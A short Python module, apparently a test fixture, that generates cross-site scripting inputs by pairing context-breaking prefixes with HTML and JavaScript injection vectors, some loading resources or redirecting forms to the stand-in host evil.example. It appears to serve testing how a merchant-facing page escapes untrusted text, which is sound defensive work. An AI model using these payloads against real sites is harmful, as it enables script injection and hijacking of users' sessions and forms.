"""Texts that a buyer, a store or an operator may send to be run in a merchant's browser."""

from __future__ import annotations

_RUN = "window.hit=1"
_BREAKS = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "`", "</option></select>", "</td>")
_VECTORS = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    f"<input autofocus onfocus={_RUN}>",
    f"<style>@import'//evil.example'</style><body onload={_RUN}>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example>",
    f"<meta http-equiv=refresh content='0;javascript:{_RUN}'>",
    "<form action=//evil.example><button autofocus>x</button></form>",
    f"<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror={_RUN}></style>",
    f" onmouseover={_RUN} autofocus onfocus={_RUN} x=",
    f"<div hx-get=//evil.example hx-trigger=load hx-on::load={_RUN}>",
    f"{{{{{_RUN}}}}}${{{_RUN}}}{{% {_RUN} %}}",
    f"\u2028<ſcript>{_RUN}</ſcript>\u202e<ScRiPt >{_RUN}</sCrIpT >",
    "<p data-refresh hx-get=//evil.example data-copy=x data-popup=evil>",
)
TEXTS = [f"{before}{vector}" for before in _BREAKS for vector in _VECTORS]
